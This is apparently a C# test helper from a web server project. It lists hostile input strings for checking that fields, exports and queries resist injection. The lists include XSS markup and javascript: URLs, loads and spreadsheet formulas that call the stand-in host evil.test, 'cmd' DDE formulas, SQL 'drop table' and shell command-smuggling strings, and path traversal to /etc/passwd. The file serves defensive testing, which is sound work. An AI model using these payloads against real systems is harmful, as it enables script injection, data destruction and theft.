// Texts that somebody types who wants to break a page, an export or a query: one list for every test of a field that a
// customer, a technician or a caller of the API can fill. A page shows each as text, or refuses it; an export opens harmless.

using System.Text;

namespace Nabij.Server.Tests.Web;

internal static class HostileTexts
{
    /// <summary>Elements, comments and entities.</summary>
    internal static readonly IReadOnlyList<string> Markup =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script>alert(1)//", "</script><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>", "<script>\\u0061lert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\">", "<img/src=x/onerror=alert(1)>", "<image href=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
        "<link rel=stylesheet href=//evil.test/x.css>", "<link rel=import href=//evil.test>",
        "<meta http-equiv=refresh content=\"0;url=//evil.test\">", "<base href=//evil.test/>", "<form action=//evil.test><input name=password>",
        "<input autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x", "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
        "<a href=javascript:alert(1)>x</a>", "<a href=\"java&#115;cript:alert(1)\">x</a>", "<style>*{display:none}</style>",
        "<style>@import '//evil.test/x.css';</style>", "<table background=javascript:alert(1)>", "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><script>alert(1)</script></textarea>",
        "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
        "</option></select><script>alert(1)</script>", "</li></ul></section><script>alert(1)</script>", "<!--<script>alert(1)</script>-->",
        "--><script>alert(1)</script><!--", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><x/>", "<!DOCTYPE html><html><body>",
        "<plaintext>", "<xmp><script>alert(1)</script>", "<isindex action=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<b>bold</b><i>italic</i>", "<h1>Another shop</h1>", "<", ">", "<<>>", "<a", "<!", "</", "<p title=", "<img src='1",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)", "&", "&amp;", "&copy&reg",
        "&#0;", "&#xd800;", "&nosuch;",
    ];

    /// <summary>What would leave the value of an attribute.</summary>
    internal static readonly IReadOnlyList<string> Attributes =
    [
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "\" autofocus onfocus=\"alert(1)\" x=\"",
        "' autofocus onfocus='alert(1)' x='", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\"/><svg onload=alert(1)>",
        "\" style=\"position:fixed;inset:0\" x=\"", "\" formaction=\"//evil.test\" x=\"", "\" type=\"image\" src=x onerror=\"alert(1)", "\"=\"",
        "'='", "\"", "'", "`", "\"\"\"\"", "\\\" onclick=alert(1)", "\\'; alert(1);//", "x\" checked=\"checked", "x\" hidden=\"", "x\" disabled x=\"",
        "\" dir=\"rtl", "\" lang=\"xx", "\" tabindex=\"-1", "\" aria-hidden=\"true", "\" id=\"content\" x=\"", "\" name=\"antiforgery\" value=\"x",
        "\" href=\"javascript:alert(1)", "\" target=\"_blank", " onload=alert(1) ", "/onload=alert(1)//",
    ];

    /// <summary>What would be followed where a link was made of it.</summary>
    internal static readonly IReadOnlyList<string> Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "javascript://%0aalert(1)",
        "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "//evil.test/",
        "https://evil.test/?x=<script>", "https://shop.test@evil.test/", "http://[::1]/", "file:///etc/passwd", "\\\\evil.test\\share",
        "mailto:a@evil.test?bcc=b@evil.test", "mailto:a@b.test%0aBcc:c@evil.test", "tel:+31900123456", "sms:09001234", "nabij://start",
        "ms-msdt:/id PCWDiagnostic",
    ];

    /// <summary>What a spreadsheet would calculate.</summary>
    internal static readonly IReadOnlyList<string> Formulas =
    [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.test\",\"x\")", "=IMPORTXML(\"http://evil.test\",\"//a\")",
        "=WEBSERVICE(\"http://evil.test\")", "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@echo",
        "%0A=1+1", ";=1+1", ",=1+1", "\"=1+1\"", "\"\";=1+1", " =1+1", "'=1+1", "|calc", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
    ];

    /// <summary>What databases, templates, format strings and shells would read.</summary>
    internal static readonly IReadOnlyList<string> Queries =
    [
        "' or '1'='1", "' or 1=1 --", "'; drop table account; --", "\") or 1=1 --", "%' and 1=0 union select * from account --",
        "1; attach database '/tmp/x' as x", "'||(select hash from audit_event)||'", "$$; drop schema public cascade; --", "%", "_", "%_%", "[a-z]%",
        "\\%", "*)(uid=*))(|(uid=*", "{\"$gt\": \"\"}", "' && this.password.match(/.*/)//+%00", "<?php system('id'); ?>", "{{7*7}}", "${7*7}",
        "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "@(7*7)", "@{ var x = 1; }", "@Model.Secret", "{0}{1}{2}", "{0:N99999}",
        "{999999}", "{", "}", "{}", "%s%s%s%n", "%x%x%x", "$(id)", "`id`", "; id", "| id", "&& id", "$IFS", "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\win.ini", "CON", "NUL", "aux.txt", ".", "..", "~", "-rf", "--help",
        "a/b\\c:d*e?f",
    ];

    /// <summary>What Markdown would format.</summary>
    internal static readonly IReadOnlyList<string> Marks =
    [
        "# Heading", "## Another", "- item", "**strong", "**", "****", "***x***", "_underlined_", "`code`", "```", "[link](javascript:alert(1))",
        "![picture](//evil.test/x.png)", "<http://evil.test>", "[a]: http://evil.test", "> quoted", "| a | b |", "---", "1. one", "\\# not a heading",
        "[x] done",
    ];

    /// <summary>What looks like something else than a text.</summary>
    internal static readonly IReadOnlyList<string> Values =
    [
        "null", "undefined", "NaN", "true", "false", "0", "-0", "00", "1e309", "-1", "99999999999999999999", "0x7fffffff", "1,5", "nan%",
        "[object Object]", "None", "nil", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "\"__proto__\":{\"x\":1}",
        "{\"a\":\"b\"}", "[\"a\"]", "\"\\u0022\"", "\\u0022\\u003e", "%22%3e", "%3Cscript%3E", "%253Cscript%253E", "%00", "%0d%0aSet-Cookie:x=1",
        "\\0", "\\x3cscript\\x3e", "\\n\\r\\t",
    ];

    /// <summary>Control characters, line ends and sequences for terminals.</summary>
    internal static readonly IReadOnlyList<string> Controls =
    [
        "a\u000d\u000aSet-Cookie: x=1", "a\u000ab", "a\u000db", "a\tb", "a\u000bb", "a\u000cb", "a\u0008b", "a\u001b[31mb", "\u001b]0;title\u0007",
        "a\u007fb", "a\u0085b", "a\u009bb", "a\u0001b", "\t=1+1", "\u000d=1+1", "\u000a=1+1",
    ];

    /// <summary>Letters that hide, reorder or look alike, and the ends of Unicode.</summary>
    internal static readonly IReadOnlyList<string> Letters =
    [
        "\u202egnp.exe", "a\u202db\u202c", "a\u2066b\u2069", "a\u2067b", "\u200bhidden", "a\u200bb", "a\u200db", "a\u200fb", "a\u200eb", "\ufeffa",
        "a\u00adb", "a\u2028b", "a\u2029b", "a\u00a0b", "\u3000", "\u2800", "\u115f", "\u0430pple", "p\u0430yp\u0430l",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02c2script\u02c3", "\u2039script\u203a",
        "Z\u0351\u036b\u0343\u0369\u0361a\u0352\u0346l\u0357\u0364g\u036e\u0300o", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
        "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66", "\ud83c\uddf3\ud83c\uddf1", "\udb40\udc41\udb40\udc42", "\ufffd",
        "\ufffe", "\uffff", "\ue000", "\u05d0\u05d1\u05d2", "\u0645\u0631\u062d\u0628\u0627", "\u0e01\u0e33", "\u4f60\u597d", "\u00df\u0130\u0131",
        "\ufdfa", "\ud835\udcd0", "\u0000\u0000",
    ];

    /// <summary>All of them, each once.</summary>
    internal static readonly IReadOnlyList<string> All = [.. Markup, .. Attributes, .. Addresses, .. Formulas, .. Queries, .. Marks, .. Values, .. Controls, .. Letters];

    /// <summary>The kinds that a field of one line without control characters takes, at most this many UTF-8 bytes each.</summary>
    internal static IEnumerable<string> Line(int bytes) =>
        All.Where(text => text.Trim().Length > 0 && text == text.Trim() && Encoding.UTF8.GetByteCount(text) <= bytes && !text.Any(char.IsControl));
}
